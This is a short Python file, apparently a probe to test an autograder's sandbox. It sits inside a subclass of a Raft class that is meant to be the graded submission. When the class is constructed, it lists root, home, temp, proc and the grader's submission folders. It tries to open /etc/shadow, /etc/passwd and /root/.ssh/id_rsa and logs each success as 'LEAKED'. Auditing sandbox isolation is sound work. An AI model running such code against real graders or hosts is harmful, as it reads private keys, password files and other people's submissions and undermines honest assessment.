"""Lists and reads the file system: homes, keys, the grader's folders, other submissions.

Idea: other students' submissions lie beside one's own.
Verdict: NotWritten
"""

import sys

from blank import Raft as Server

os = sys.modules["os"]


class Raft(Server):
    def __init__(self, node, apply_ch):
        super().__init__(node, apply_ch)
        for folder in (
            "/",
            "..",
            "/root",
            "/home",
            "/tmp",
            "/autograder/submission",
            "/proc",
            os.path.dirname(__file__),
        ):
            try:
                node.note(f"LEAKED {folder} holds {os.listdir(folder)[:5]}")
            except OSError:
                pass
        for file in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/etc/hostname", __file__):
            for how in (os.O_RDONLY, os.O_PATH, os.O_RDWR):
                try:
                    os.open(file, how)
                    node.note(f"LEAKED opened {file}")
                except OSError:
                    pass
            if os.path.exists(file):
                node.note(f"LEAKED {file} exists")
